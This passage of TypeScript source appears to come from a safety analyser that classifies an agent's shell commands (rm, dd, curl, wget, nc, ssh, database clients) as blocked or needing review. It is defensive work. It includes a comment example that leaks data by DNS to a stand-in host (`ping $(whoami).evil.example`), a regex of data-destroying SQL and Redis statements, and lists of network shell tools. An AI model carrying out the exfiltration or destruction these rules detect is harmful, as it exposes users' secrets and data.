  const p = parseOpts(args, ["--output-error"]);
  for (const f of p.positional) {
    if (!f.dyn && /^\/dev\/(null|stdout|stderr|tty)$/.test(f.s)) continue;
    if (!f.dyn && f.s.startsWith("/dev/")) a.block("disk_write", `\`tee\` writes onto the device ${f.s}`);
    else a.write(f, "write", "`tee`");
  }
  return io.stdin;
};

H.touch = (args, a) => {
  const p = parseOpts(args, ["-d", "-t", "-r", "--date", "--reference"]);
  for (const f of p.positional) a.write(f, "write", "`touch`");
  return null;
};

H.mkdir = (args, a) => {
  const p = parseOpts(args, ["-m", "--mode", "--context"]);
  for (const f of p.positional) a.write(f, "write", "`mkdir`");
  return null;
};

H.rmdir = (args, a) => {
  const p = parseOpts(args, []);
  for (const f of p.positional) a.write(f, "delete", "`rmdir`");
  return null;
};

H.unlink = (args, a) => {
  for (const f of parseOpts(args, []).positional) a.write(f, "delete", "`unlink`");
  return null;
};

H.rm = (args, a) => {
  const p = parseOpts(args, []);
  if (has(p, "--no-preserve-root"))
    a.block("recursive_delete", "`rm --no-preserve-root` removes the filesystem root");
  const recursive = has(p, "-r", "-R", "--recursive");
  if (p.positional.length === 0) return null;
  for (const f of p.positional) a.write(f, recursive ? "rdelete" : "delete", recursive ? "`rm -r`" : "`rm`");
  return null;
};

H.shred = (args, a) => {
  const p = parseOpts(args, ["-n", "-s", "--iterations", "--size", "--random-source"]);
  for (const f of p.positional) {
    if (!f.dyn && f.s.startsWith("/dev/")) a.block("disk_write", `\`shred\` overwrites the device ${f.s}`);
    else a.write(f, "delete", "`shred`");
  }
  return null;
};

function copyLike(op: "copy" | "move" | "link" | "install") {
  const valueOpts: Record<string, string[]> = {
    copy: [
      "-t",
      "--target-directory",
      "-S",
      "--suffix",
      "--backup",
      "--sparse",
      "--reflink",
      "--preserve",
      "--no-preserve",
    ],
    move: ["-t", "--target-directory", "-S", "--suffix", "--backup"],
    link: ["-t", "--target-directory", "-S", "--suffix", "--backup"],
    install: [
      "-t",
      "--target-directory",
      "-m",
      "--mode",
      "-o",
      "--owner",
      "-g",
      "--group",
      "-S",
      "--suffix",
      "--backup",
    ],
  };
  const verb = { copy: "cp", move: "mv", link: "ln", install: "install" }[op];
  return (args: Val[], a: Analysis): null => {
    const p = parseOpts(args, valueOpts[op]!);
    const target = optValue(p, "-t", "--target-directory");
    const via = `\`${verb}\``;
    if (op === "install" && has(p, "-d", "--directory")) {
      for (const d of p.positional) a.write(d, "write", via);
      return null;
    }
    let sources = p.positional;
    let dest: Val | null = target;
    if (!dest) {
      if (p.positional.length === 1 && op === "link") {
        const only = p.positional[0]!;
        dest = only.dyn ? only : lit(posix.basename(only.s));
      } else if (p.positional.length >= 2) {
        dest = p.positional[p.positional.length - 1]!;
        sources = p.positional.slice(0, -1);
      } else {
        return null;
      }
    }
    if (!dest.dyn && dest.s.startsWith("/dev/") && !/^\/dev\/null$/.test(dest.s))
      a.block("disk_write", `${via} writes onto the device ${dest.s}`);
    else if (!dest.dyn && dest.s === "/dev/null") {
      /* copying or moving into /dev/null: only the sources matter */
    } else if (sources.length === 1 && !has(p, "-T", "--no-target-directory") && !target) {
      // `cp a b`: b is the file written, or a directory that receives a/… (still below b).
      a.write(dest, "write", via);
    } else {
      for (const s of sources) {
        const name = s.dyn ? DYN : posix.basename(s.s);
        a.write(
          { ...dest, s: `${dest.s.replace(/\/+$/, "")}/${name}`, dyn: dest.dyn || s.dyn },
          "write",
          via,
        );
      }
    }
    if (op === "move") for (const s of sources) a.write(s, "rdelete", "`mv` (source)");
    if (op !== "link" && sources.some((s) => !s.dyn && isSecretPath(s.s, a.ctx.home))) {
      a.grey("secret_copy", `${via} copies a credential file`);
    }
    if (op === "link" && has(p, "-s", "--symbolic")) {
      // A link pointing out of the lease lets later writes through it escape: judge its target.
      for (const s of sources) {
        const linkDir = dest.dyn
          ? null
          : dest.s.endsWith("/") || sources.length > 1 || target
            ? dest.s
            : posix.dirname(dest.s);
        const t = s.dyn || s.s.startsWith("/") || linkDir === null ? s : { ...s, s: `${linkDir}/${s.s}` };
        const abs = a.resolve(t);
        if (abs === null)
          a.grey("dynamic_target", `${via} -s links to a path that cannot be known before it runs`);
        else for (const x of abs) a.fx.linkTargets.push({ path: x, via });
      }
    }
    return null;
  };
}
H.cp = copyLike("copy");
H.mv = copyLike("move");
H.ln = copyLike("link");
H.link = copyLike("link");
H.install = copyLike("install");
H.rsync = (args, a) => {
  const p = parseOpts(args, [
    "-e",
    "--rsh",
    "--exclude",
    "--include",
    "--filter",
    "-f",
    "--files-from",
    "--exclude-from",
    "--include-from",
    "--backup-dir",
    "--temp-dir",
    "-T",
    "--partial-dir",
    "--log-file",
    "--chmod",
    "--chown",
  ]);
  if (p.positional.some((v) => /^[^/]*:/.test(v.s) && !v.s.startsWith("/"))) {
    a.grey("remote_access", "`rsync` copies to or from another machine");
    return null;
  }
  if (p.positional.length < 2) return null;
  const dest = p.positional[p.positional.length - 1]!;
  a.write(
    dest,
    has(p, "--delete", "--delete-before", "--delete-after", "--delete-during", "--del") ? "rdelete" : "write",
    "`rsync`",
  );
  if (has(p, "--remove-source-files"))
    for (const s of p.positional.slice(0, -1)) a.write(s, "delete", "`rsync --remove-source-files`");
  return null;
};

H.dd = (args, a) => {
  for (const v of args) {
    if (v.s.startsWith("of=")) {
      const t = { ...v, s: v.s.slice(3) };
      if (!t.dyn && t.s.startsWith("/dev/") && t.s !== "/dev/null")
        a.block("disk_write", `\`dd\` writes onto the device ${t.s}`);
      else if (t.s !== "/dev/null") a.write(t, "write", "`dd`");
    }
  }
  return null;
};

H.truncate = (args, a) => {
  const p = parseOpts(args, ["-s", "--size", "-r", "--reference"]);
  for (const f of p.positional) a.write(f, "write", "`truncate`");
  return null;
};

function metaHandler(verb: string) {
  return (args: Val[], a: Analysis): null => {
    const p = parseOpts(args, ["--reference", "--from"]);
    // `chmod -x f`, `chattr -i f`: the mode parses as an option, so every positional is a target.
    const modeAsOpt = args.some(
      (v) => /^[-+=][rwxXstugoaAcCdDeEFijmPSTu]+$/.test(v.s) && !/^-[Rvcf]+$|^--/.test(v.s),
    );
    const targets = has(p, "--reference") || modeAsOpt ? p.positional : p.positional.slice(1);
    const recursive = has(p, "-R", "--recursive");
    for (const t of targets) a.write(t, recursive ? "rmeta" : "meta", `\`${verb}${recursive ? " -R" : ""}\``);
    return null;
  };
}
/**
 * DNS and ICMP probes only read, but the name they look up leaves the machine: a host outside the
 * allowlist, or one built at run time (`ping $(whoami).evil.example`), is a network contact like curl's.
 */
function lookupTool(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const valueOpts = [
    "-c",
    "-i",
    "-W",
    "-w",
    "-s",
    "-t",
    "-p",
    "-q",
    "-f",
    "-m",
    "-I",
    "-b",
    "-x",
    "-k",
    "-y",
    "-h",
  ];
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!;
    if (v.s.startsWith("-") && !v.dyn) {
      if (valueOpts.includes(v.s)) i++;
      continue;
    }
    const raw = v.s.replace(/^@/, "");
    if (v.dyn) a.grey("dynamic_host", `\`${io.name}\` looks up a host that cannot be known before it runs`);
    else if (/[a-zA-Z]/.test(raw) && /\./.test(raw)) a.host(`dns://${raw}`, `\`${io.name}\``, false);
  }
  return { text: null, network: false, secret: false, via: `\`${io.name}\`` };
}
for (const n of [
  "ping",
  "ping6",
  "dig",
  "nslookup",
  "host",
  "drill",
  "traceroute",
  "tracepath",
  "mtr",
  "whois",
])
  H[n] = lookupTool;

// `man -P CMD` / `--pager=CMD` runs CMD through a shell to page.
H.man = (args, a) => {
  const p = parseOpts(args, [
    "-P",
    "--pager",
    "-M",
    "--manpath",
    "-L",
    "--locale",
    "-S",
    "-s",
    "--sections",
    "-C",
    "--config-file",
    "-H",
    "--html",
  ]);
  for (const cmd of optValues(p, "-P", "--pager", "-H", "--html")) {
    if (cmd.dyn) a.grey("dynamic_command", "`man -P` runs a pager that cannot be known before it runs");
    else a.nested(cmd.s, "the pager of `man`");
  }
  return null;
};

/** SQL or a Redis command that destroys data wholesale (a `DELETE` with no `WHERE` included). */
const DESTROY_DATA =
  /\b(drop\s+(database|schema|table|collection)|truncate\s+(table\s+)?\w|delete\s+from\s+[\w."]+\s*(;|$)|flushall|flushdb|dropdatabase\s*\()/im;

/**
 * Database clients run whatever statements they are given, on a server the lease does not
 * describe: always grey, and a statement that destroys data wholesale is blocked.
 */
function databaseClient(args: Val[], a: Analysis, io: Io): null {
  const texts = [...args.map((v) => v.s), io.stdin?.text ?? ""];
  if (texts.some((t) => DESTROY_DATA.test(t))) {
    a.block("data_destroy", `\`${io.name}\` runs a statement that destroys a database, table or keyspace`);
    return null;
  }
  a.grey("database", `\`${io.name}\` runs statements against a database`);
  return null;
}
for (const n of [
  "psql",
  "mysql",
  "mariadb",
  "sqlite3",
  "redis-cli",
  "mongo",
  "mongosh",
  "cockroach",
  "clickhouse-client",
])
  H[n] = databaseClient;

H.chmod = metaHandler("chmod");
H.chown = metaHandler("chown");
H.chgrp = metaHandler("chgrp");
H.chattr = metaHandler("chattr");
H.setfacl = metaHandler("setfacl");

H.sed = (args, a) => {
  const p = parseOpts(args, ["-e", "--expression", "-f", "--file", "-l", "--line-length", "-s"]);
  const inPlace = p.opts.some(
    (o) => o.name === "-i" || o.name === "--in-place" || o.name.startsWith("--in-place"),
  );
  const scripts = optValues(p, "-e", "--expression");
  let files = p.positional;
  if (scripts.length === 0 && !has(p, "-f", "--file")) {
    if (files[0]) scripts.push(files[0]);
    files = files.slice(1);
  }
  // The bundled-option parser reads `-i.bak` as -i -. -b …; any -i means in place.
  for (const sc of scripts) {
    if (sc.dyn) a.grey("dynamic_command", "`sed` runs a script that cannot be known before it runs");
    else if (sedWritesOrExecutes(sc.s))
      a.grey("sed_exec", "the `sed` script writes files (w) or runs commands (e)");
  }
  if (inPlace) for (const f of files) a.write(f, "write", "`sed -i`");
  return null;
};

/** True when a sed script may use the w/W/e commands or the s///w, s///e flags (conservative). */
function sedWritesOrExecutes(script: string): boolean {
  let i = 0;
  const s = script;
  while (i < s.length) {
    const ch = s[i]!;
    if (ch === "s" || ch === "y") {
      const delim = s[i + 1];
      if (!delim || delim === "\n" || delim === "\\") return true;
      let parts = 0;
      let j = i + 2;
      while (j < s.length && parts < 2) {
        if (s[j] === "\\") j++;
        else if (s[j] === delim) parts++;
        j++;
      }
      const flags = /^[^;}\n]*/.exec(s.slice(j))![0];
      if (ch === "s" && /[we]/.test(flags)) return true;
      i = j + flags.length;
      continue;
    }
    if (ch === "/" || ch === "\\") {
      // an address regex: skip to its end
      const delim = ch === "\\" ? s[i + 1] : "/";
      let j = ch === "\\" ? i + 2 : i + 1;
      while (j < s.length && s[j] !== delim) j += s[j] === "\\" ? 2 : 1;
      i = j + 1;
      continue;
    }
    if (ch === "w" || ch === "W" || ch === "e") return true;
    if (
      ch === "r" ||
      ch === "R" ||
      ch === "a" ||
      ch === "i" ||
      ch === "c" ||
      ch === "b" ||
      ch === "t" ||
      ch === "T" ||
      ch === ":"
    ) {
      // text/label arguments run to the end of the line
      const nl = s.indexOf("\n", i);
      const semi = ch === "b" || ch === "t" || ch === "T" ? s.indexOf(";", i) : -1;
      const end = [nl, semi].filter((x) => x !== -1);
      i = end.length ? Math.min(...end) + 1 : s.length;
      continue;
    }
    i++;
  }
  return false;
}

function awkHandler(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const p = parseOpts(args, ["-F", "-v", "-f", "--field-separator", "--assign", "--file"]);
  if (has(p, "-f", "--file")) {
    a.grey("inline_code", `\`${io.name} -f\` runs a program from a file`);
    return null;
  }
  if (p.opts.some((o) => o.name === "-i" || o.name === "--include")) {
    a.grey("inline_code", `\`${io.name} -i\` loads extensions`);
    return null;
  }
  const prog = p.positional[0];
  if (!prog || prog.dyn) {
    a.grey("inline_code", `\`${io.name}\` runs a program that cannot be known before it runs`);
    return null;
  }
  // The side effects are system(), getline, and print/printf redirected to a file or a command
  // (`>`/`|` only redirect after print/printf; elsewhere `>` is a comparison).
  if (
    /system\s*\(|getline|\bfflush\b|close\s*\(|\bprintf?\b[^;{}]*[>|]/.test(
      prog.s.replace(/"(?:[^"\\]|\\.)*"/g, '""').replace(/>=/g, ""),
    )
  ) {
    a.grey("inline_code", `the \`${io.name}\` program may write files or run commands`);
  }
  return { text: null, network: false, secret: false, via: `\`${io.name}\`` };
}
H.awk = awkHandler;
H.gawk = awkHandler;
H.mawk = awkHandler;
H.nawk = awkHandler;

H.sort = (args, a) => {
  const p = parseOpts(args, [
    "-o",
    "--output",
    "-k",
    "--key",
    "-t",
    "--field-separator",
    "-S",
    "--buffer-size",
    "-T",
    "--temporary-directory",
    "--parallel",
    "--files0-from",
    "--compress-program",
    "--random-source",
    "--batch-size",
  ]);
  const out = optValue(p, "-o", "--output");
  if (out) a.write(out, "write", "`sort -o`");
  if (has(p, "--compress-program")) a.grey("inline_code", "`sort --compress-program` runs a program");
  return { text: null, network: false, secret: false, via: "`sort`" };
};
H.uniq = (args, a) => {
  const p = parseOpts(args, [
    "-f",
    "-s",
    "-w",
    "--skip-fields",
    "--skip-chars",
    "--check-chars",
    "--group",
    "--all-repeated",
  ]);
  if (p.positional[1]) a.write(p.positional[1], "write", "`uniq` (output file)");
  return null;
};
H.xxd = (args, a) => {
  const p = parseOpts(args, ["-c", "-g", "-l", "-s", "-o", "-n", "-C"]);
  if (p.positional[1]) a.write(p.positional[1], "write", "`xxd` (output file)");
  return null;
};
H.split = (args, a) => {
  const p = parseOpts(args, ["-l", "-b", "-C", "-n", "-a", "--additional-suffix", "--filter", "-t"]);
  if (has(p, "--filter")) a.grey("inline_code", "`split --filter` runs commands");
  const prefix = p.positional[1] ?? lit("x");
  a.write(prefix, "write", "`split`");
  return null;
};
H.csplit = (args, a) => {
  const p = parseOpts(args, ["-f", "--prefix", "-b", "-n"]);
  a.write(optValue(p, "-f", "--prefix") ?? lit("xx"), "write", "`csplit`");
  return null;
};
H.patch = (args, a) => {
  const p = parseOpts(args, [
    "-o",
    "--output",
    "-d",
    "--directory",
    "-i",
    "--input",
    "-p",
    "-r",
    "--reject-file",
    "-B",
    "--prefix",
    "-z",
    "--suffix",
    "-D",
    "-F",
    "--fuzz",
  ]);
  const out = optValue(p, "-o", "--output");
  if (out) a.write(out, "write", "`patch -o`");
  const dir = optValue(p, "-d", "--directory");
  a.project("`patch`", dir ?? undefined);
  if (!out && p.positional[0]) a.write(p.positional[0], "write", "`patch`");
  return null;
};

H.tar = (args, a) => {
  const first = args[0] && !normArg(args[0]).startsWith("-") ? lit(`-${args[0].s}`) : null;
  const list = first ? [first, ...args.slice(1)] : args;
  const p = parseOpts(list, [
    "-f",
    "--file",
    "-C",
    "--directory",
    "-T",
    "--files-from",
    "-X",
    "--exclude-from",
    "-I",
    "--use-compress-program",
    "--to-command",
    "--checkpoint-action",
    "-b",
    "--blocking-factor",
    "-H",
    "--format",
    "--exclude",
    "-g",
    "-V",
    "-K",
    "-N",
    "--owner",
    "--group",
    "--mode",
    "--transform",
    "--xform",
  ]);
  if (
    has(
      p,
      "-I",
      "--use-compress-program",
      "--to-command",
      "--checkpoint-action",
      "--info-script",
      "-F",
      "--new-volume-script",
      "--rsh-command",
    )
  ) {
    a.grey("inline_code", "`tar` runs an external program");
    return null;
  }
  const file = optValue(p, "-f", "--file");
  if (has(p, "-t", "--list", "-d", "--diff", "--compare")) return null;
  if (has(p, "-x", "--extract", "--get")) {
    const dir = optValue(p, "-C", "--directory");
    if (dir) a.write(dir, "write", "`tar -x`");
    else a.project("`tar -x`");
    if (has(p, "-P", "--absolute-names")) a.grey("tar_absolute", "`tar -P` extracts absolute paths");
    return null;
  }
  if (has(p, "-c", "--create", "-r", "--append", "-u", "--update", "-A", "--catenate", "--delete")) {
    if (file && file.s !== "-") a.write(file, "write", "`tar` (archive)");
    return null;
  }
  a.grey("unknown_command", "`tar` with an unrecognised mode");
  return null;
};
H.unzip = (args, a) => {
  const p = parseOpts(args, ["-d", "-x", "-P"]);
  if (has(p, "-l", "-t", "-v", "-p", "-Z", "-z")) return null;
  const dir = optValue(p, "-d");
  if (dir) a.write(dir, "write", "`unzip -d`");
  else a.project("`unzip`");
  return null;
};
H.zip = (args, a) => {
  const p = parseOpts(args, ["-x", "-i", "-b", "-n", "-t", "-tt", "-P", "-Z", "-O", "--out"]);
  if (p.positional[0]) a.write(p.positional[0], "write", "`zip`");
  if (has(p, "-m", "--move")) for (const f of p.positional.slice(1)) a.write(f, "delete", "`zip -m`");
  if (has(p, "-T", "-TT", "--unzip-command")) a.grey("inline_code", "`zip -T/-TT` runs a program");
  return null;
};
function compressor(verb: string) {
  return (args: Val[], a: Analysis): StdinSource | null => {
    const p = parseOpts(args, ["-S", "--suffix", "-b", "-o", "--output", "-T", "--threads", "-L", "--level"]);
    if (has(p, "-c", "--stdout", "--to-stdout", "-l", "--list", "-t", "--test"))
      return { text: null, network: false, secret: false, via: `\`${verb}\`` };
    const out = optValue(p, "-o", "--output");
    if (out) a.write(out, "write", `\`${verb}\``);
    if (p.positional.length === 0) return null; // stdin → stdout
    for (const f of p.positional) a.write(f, "write", `\`${verb}\``);
    return null;
  };
}
for (const c of [
  "gzip",
  "gunzip",
  "bzip2",
  "bunzip2",
  "xz",
  "unxz",
  "lzma",
  "zstd",
  "unzstd",
  "lz4",
  "brotli",
  "pigz",
])
  H[c] = compressor(c);

// --- find / fd ----------------------------------------------------------------------------------

const FIND_FILTERS = new Set(
  "-name -iname -path -ipath -wholename -iwholename -regex -iregex -type -xtype -newer -mtime -mmin -atime -amin -ctime -cmin -size -empty -user -group -perm -links -inum -samefile -lname -ilname -uid -gid -nouser -nogroup -newermt -used -readable -writable -executable".split(
    " ",
  ),
);

/** Static `-name`/`-iname` patterns of a find expression (null: none, or one is dynamic or has a slash). */
function findNames(args: Val[]): string[] | null {
  const out: string[] = [];
  for (let i = 0; i < args.length - 1; i++) {
    const s = normArg(args[i]!);
    if (s !== "-name" && s !== "-iname") continue;
    const v = args[i + 1]!;
    if (v.dyn || v.s.includes("/")) return null;
    out.push(v.s);
  }
  return out.length > 0 ? out : null;
}

/**
 * Stand-ins for the paths find reports under one root: the root itself (unless -mindepth ≥ 1 or
 * no -name can match its own name) and entries below it, named by the -name patterns when given.
 * A pattern starting with a wildcard also matches hidden entries (find has no dotglob rule), so
 * `.<pattern>` stands in too. Judging these as paths catches `find . -name .git -exec rm -rf {} +`.
 */
function findFounds(r: Val, args: Val[]): string[] {
  if (r.dyn) return [DYN];
  const names = findNames(args);
  const base = r.s.replace(/\/+$/, "") || "/";
  const founds: string[] = [];
  const rootName = base === "." ? "." : posix.basename(base);
  if (findMinDepth(args) < 1 && (names === null || names.some((n) => n === rootName || /^\.?[*?[]/.test(n))))
    founds.push(base);
  if (names === null) founds.push(`${base}/__found__`);
  else for (const n of names) founds.push(`${base}/${n}`, ...(/^[*?[]/.test(n) ? [`${base}/.${n}`] : []));
  return founds;
}

function findMinDepth(args: Val[]): number {
  const at = args.findIndex((v) => normArg(v) === "-mindepth");
  const n = at === -1 ? 0 : Number(args[at + 1]?.s);
  return Number.isFinite(n) ? n : 0;
}

H.find = (args, a) => {
  let i = 0;
  const roots: Val[] = [];
  while (i < args.length && !/^[-(!]/.test(normArg(args[i]!))) roots.push(args[i++]!);
  if (roots.length === 0) roots.push(lit("."));
  let filtered = false;
  const printsOnly = !args.some((v) =>
    /^-(exec|execdir|ok|okdir|delete|fprint0?|fls|fprintf|printf|ls)$/.test(normArg(v)),
  );
  for (; i < args.length; i++) {
    const s = normArg(args[i]!);
    if (FIND_FILTERS.has(s)) filtered = true;
    if (s === "-delete") {
      for (const r of roots) {
        if (filtered)
          a.write({ ...r, s: `${r.s.replace(/\/+$/, "")}/__found__` }, "delete", "`find -delete`");
        else a.write(r, "rdelete", "`find -delete`");
      }
      continue;
    }
    if (s === "-fprint" || s === "-fprint0" || s === "-fls" || s === "-fprintf") {
      const f = args[i + 1];
      if (f) a.write(f, "write", `\`find ${s}\``);
      i += s === "-fprintf" ? 2 : 1;
      continue;
    }
    if (s === "-exec" || s === "-execdir" || s === "-ok" || s === "-okdir") {
      const cmd: Val[] = [];
      let j = i + 1;
      for (; j < args.length; j++) {
        if (args[j]!.s === ";" || args[j]!.s === "+") break;
        cmd.push(args[j]!);
      }
      i = j;
      if (cmd.length === 0) continue;
      // `{}` stands for each path found: the root itself, and entries below it, named by -name patterns when given. A pattern starting with a
      // wildcard also matches hidden entries (find has no dotglob rule), so `.<pattern>` is tried too.
      for (const r of roots) {
        for (const found of findFounds(r, args)) {
          const argv = cmd.map((w) =>
            w.s.includes("{}") ? { ...w, s: w.s.replaceAll("{}", found), dyn: w.dyn || r.dyn } : w,
          );
          runCommand(argv, a, null, false);
        }
      }
    }
  }
  // What find prints stands in for its paths downstream (`find / -name '*.pem' | xargs cat`).
  if (!printsOnly || roots.some((r) => r.dyn)) return null;
  return {
    text: roots.flatMap((r) => findFounds(r, args)).join("\n"),
    network: false,
    secret: false,
    via: "`find`",
  };
};

H.fd = (args, a) => {
  const p = parseOpts(args, [
    "-x",
    "--exec",
    "-X",
    "--exec-batch",
    "-e",
    "--extension",
    "-t",
    "--type",
    "-E",
    "--exclude",
    "-d",
    "--max-depth",
    "--min-depth",
    "-S",
    "--size",
    "--changed-within",
    "--changed-before",
    "-o",
    "--owner",
    "-j",
    "--threads",
    "--base-directory",
    "--search-path",
    "-c",
    "--color",
  ]);
  const idx = args.findIndex((v) => /^(-x|--exec|-X|--exec-batch)$/.test(normArg(v)));
  if (idx !== -1) {
    const cmd = args.slice(idx + 1).filter((v) => v.s !== ";");
    const argv = cmd.map((w) => (w.s.includes("{") ? { ...w, s: DYN, dyn: true } : w));
    if (!cmd.some((w) => w.s.includes("{"))) argv.push(dyn());
    if (argv.length) runCommand(argv, a, null, false);
  }
  void p;
  return null;
};
H.fdfind = H.fd;

// --- network -----------------------------------------------------------------------------------

function uploadSecret(v: Val, a: Analysis): 0 | 1 | 2 {
  if (v.secret) return v.secret;
  const at = v.s.replace(/^[^@]*@/, "");
  if (v.s.includes("@") && isSecretPath(at, a.ctx.home)) return 2;
  return 0;
}

/** curl options whose value is sent as the request body or uploaded. */
const CURL_BODY_OPTIONS = [
  "-d",
  "--data",
  "--data-binary",
  "--data-raw",
  "--data-urlencode",
  "--data-ascii",
  "-F",
  "--form",
  "--form-string",
  "-T",
  "--upload-file",
];

H.curl = (args, a, io) => {
  const p = parseOpts(args, [
    "-o",
    "--output",
    ...CURL_BODY_OPTIONS,
    "-X",
    "--request",
    "-H",
    "--header",
    "-u",
    "--user",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-D",
    "--dump-header",
    "-K",
    "--config",
    "-m",
    "--max-time",
    "--connect-timeout",
    "-w",
    "--write-out",
    "--json",
    "-x",
    "--proxy",
    "--retry",
    "-r",
    "--range",
    "--cacert",
    "--cert",
    "--key",
    "-E",
    "--resolve",
    "--url",
    "-C",
    "--continue-at",
    "--output-dir",
    "--limit-rate",
    "-Y",
    "-y",
    "--stderr",
    "--trace",
    "--trace-ascii",
    "-z",
    "--time-cond",
    "--interface",
    "--unix-socket",
  ]);
  const via = "`curl`";
  if (has(p, "-K", "--config")) a.grey("curl_config", "`curl -K` reads options from a file");
  const data = optValues(p, ...CURL_BODY_OPTIONS, "--json");
  const headers = optValues(p, "-H", "--header", "-u", "--user", "-b", "--cookie");
  const method = optValue(p, "-X", "--request")?.s.toUpperCase() ?? null;
  let secret: 0 | 1 | 2 = 0;
  for (const d of [...data, ...headers]) secret = Math.max(secret, uploadSecret(d, a)) as 0 | 1 | 2;
  for (const u of p.positional) secret = Math.max(secret, u.secret) as 0 | 1 | 2;
  if (io.stdin?.secret && data.some((d) => /^@-$|^-$/.test(d.s))) secret = 2;
  const sends = data.length > 0 || (method !== null && method !== "GET" && method !== "HEAD");
  if (secret === 2) {
    a.block("exfiltration", `${via} sends the environment or a credential file to a remote host`);
    return null;
  }
  const urls = [...p.positional, ...optValues(p, "--url")];
  // DELETE/PUT/PATCH change a remote service (a repository's settings, a release…), allowlisted or
  // not; against a local dev server they are everyday testing.
  const remote = urls.some(
    (u) => !/^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)([:/]|$)/.test(u.s),
  );
  if (remote && (method === "DELETE" || method === "PUT" || method === "PATCH"))
    a.grey("remote_change", `${via} -X ${method} changes something on a remote service`);
  for (const u of urls) a.host(u.s, via, sends);
  if (secret === 1) a.grey("secret_send", `${via} sends a secret-looking variable`);
  for (const o of optValues(
    p,
    "-o",
    "--output",
    "-D",
    "--dump-header",
    "-c",
    "--cookie-jar",
    "--trace",
    "--trace-ascii",
    "--stderr",
  )) {
    if (o.s === "-" || o.s === "/dev/null") continue;
    a.write(o, "write", via);
    const abs = a.resolve(o);
    if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
  }
  if (has(p, "-O", "--remote-name", "--remote-name-all")) {
    const dir = optValue(p, "--output-dir");
    if (dir) a.write(dir, "write", via);
    else a.project(`${via} -O`);
    for (const u of urls) {
      const base = posix.basename(u.s.split(/[?#]/)[0] ?? "");
      const abs = a.resolve(lit(base));
      if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
    }
  }
  if (sends) a.fx.readOnly = false;
  return { text: null, network: true, secret: false, via };
};

H.wget = (args, a, io) => {
  const p = parseOpts(args, [
    "-O",
    "--output-document",
    "-P",
    "--directory-prefix",
    "-o",
    "--output-file",
    "-a",
    "--append-output",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--method",
    "--header",
    "-i",
    "--input-file",
    "-U",
    "--user-agent",
    "--user",
    "--password",
    "-t",
    "--tries",
    "-T",
    "--timeout",
    "-e",
    "--execute",
    "-Q",
    "--quota",
    "--load-cookies",
    "--save-cookies",
  ]);
  const via = "`wget`";
  const post = optValues(p, "--post-data", "--post-file", "--body-data", "--body-file");
  let secret: 0 | 1 | 2 = 0;
  for (const d of [...post, ...optValues(p, "--header", "--password")])
    secret = Math.max(secret, d.secret, isSecretPath(d.s, a.ctx.home) ? 2 : 0) as 0 | 1 | 2;
  if (secret === 2) {
    a.block("exfiltration", `${via} sends the environment or a credential file to a remote host`);
    return null;
  }
  if (has(p, "-e", "--execute", "-i", "--input-file"))
    a.grey("wget_config", "`wget -e/-i` takes commands or URLs from elsewhere");
  const method = optValue(p, "--method")?.s.toUpperCase();
  const sends = post.length > 0 || (method !== undefined && method !== "GET" && method !== "HEAD");
  for (const u of p.positional) a.host(u.s, via, sends);
  if (secret === 1) a.grey("secret_send", `${via} sends a secret-looking variable`);
  const out = optValue(p, "-O", "--output-document");
  for (const o of optValues(p, "-o", "--output-file", "-a", "--append-output", "--save-cookies"))
    a.write(o, "write", via);
  if (out) {
    if (out.s !== "-" && out.s !== "/dev/null") {
      a.write(out, "write", via);
      const abs = a.resolve(out);
      if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
    }
    return out.s === "-" ? { text: null, network: true, secret: false, via } : null;
  }
  const dir = optValue(p, "-P", "--directory-prefix");
  if (dir) a.write(dir, "write", via);
  else a.project(via);
  for (const u of p.positional) {
    const base = posix.basename(u.s.split(/[?#]/)[0] ?? "") || "index.html";
    const abs = a.resolve(dir ? lit(`${dir.s}/${base}`) : lit(base));
    if (abs) for (const x of abs) a.downloaded.add(posix.normalize(x));
  }
  void io;
  return null;
};

function rawNetwork(args: Val[], a: Analysis, io: Io): StdinSource | null {
  if (io.stdin?.secret) {
    a.block("exfiltration", `${io.stdin.via} output is sent over the network by \`${io.name}\``);
    return null;
  }
  a.grey("raw_network", `\`${io.name}\` opens a raw network connection`);
  for (const v of args) if (!v.s.startsWith("-")) a.host(v.s, `\`${io.name}\``, true);
  return { text: null, network: true, secret: false, via: `\`${io.name}\`` };
}
for (const n of [
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",

  "ftp",
  "tftp",
  "mail",
  "mailx",
  "sendmail",
  "mutt",
])
  H[n] = rawNetwork;

H.openssl = (args, a, io) => {
  const sub = args[0]?.s ?? "";
  if (/^s_(client|server|time)$|^ocsp$/.test(sub)) return rawNetwork(args, a, io);
  // openssl spells long options with one dash: `-out FILE`, `-keyout FILE`.
  args.forEach((v, i) => {
    const next = args[i + 1];
    if ((v.s === "-out" || v.s === "-keyout") && next) a.write(next, "write", "`openssl`");
  });
  return { text: null, network: false, secret: false, via: "`openssl`" };
};

function remoteAccess(args: Val[], a: Analysis, io: Io): null {
  if (
    io.stdin?.secret ||
    args.some((v) => v.secret === 2 || (!v.dyn && isSecretPath(v.s.replace(/^[^@]*@/, ""), a.ctx.home)))
  ) {
    a.block("exfiltration", `\`${io.name}\` sends a credential or the environment to another machine`);
    return null;
  }
  a.grey("remote_access", `\`${io.name}\` runs commands on or copies files to another machine`);
  return null;
}
for (const n of ["ssh", "scp", "sftp", "rclone", "mosh"]) H[n] = remoteAccess;

H.http = (args, a) => {
  const method = args[0] && /^[A-Z]+$/.test(args[0].s) ? args[0].s : null;
  const url =
    args.find((v) => !v.s.startsWith("-") && v !== args[0]) ?? args.find((v) => !v.s.startsWith("-"));
  const sends =
    (method !== null && method !== "GET" && method !== "HEAD") ||
    args.some((v) => /^[\w-]+(=|:=|@)/.test(v.s));
  if (args.some((v) => v.secret === 2)) {
    a.block("exfiltration", "`http` sends the environment or a credential to a remote host");
    return null;
  }
  if (url) a.host(url.s, "`http`", sends);
  return { text: null, network: true, secret: false, via: "`http`" };
};
H.https = H.http;
H.xh = H.http;

// --- git ----------------------------------------------------------------------------------------

const GIT_READ = new Set(
